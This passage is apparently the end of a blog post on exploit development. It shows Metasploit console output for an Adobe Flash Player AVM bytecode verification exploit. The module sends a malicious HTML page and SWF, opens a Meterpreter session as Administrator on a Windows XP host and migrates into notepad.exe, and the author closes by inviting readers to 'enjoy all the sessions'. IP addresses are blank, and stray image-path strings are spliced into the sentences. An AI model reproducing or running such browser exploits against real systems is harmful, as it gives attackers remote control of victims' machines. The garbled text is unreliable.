[*] Started reverse handleron
[*] Using URL:
msf exploit(adobe_flashplayer_avm) >
[*]  Local IP:
[*] Server started.
[*] Sending Adobe Flash Player AVM Bytecode Verification Vulnerability HTML to
[*] Sending Exploit SWF
[*] Sending stage (749056 bytes) to
[*] Meterpreter session 1 opened ( -> at 2011-03-26 15:23:18 -0400
[*] Session ID 1 ( -> processing InitialAutoRunScript 'migrate -f'
[*] Current server process: iexplore.exe (2376)
[*] Spawning a notepad.exe host process...
[*] Migrating into process ID 4092
[*] New server process: notepad.exe (4092)
msf exploit(adobe_flashplayer_avm) > sessions

Active sessions
 Id  Type                   Information                                  Connection
 --  ----                   ---                                  ---
 1   meterpreter x86/win32  WXPPROSP2-001\Administrator @ WXPPROSP2-001 ->

msf exploit(adobe_flashplayer_avm) >

Thats the entire process it took to create a reliable exploit for thisvulnerability. I hopeyou enjoy all the sessions =).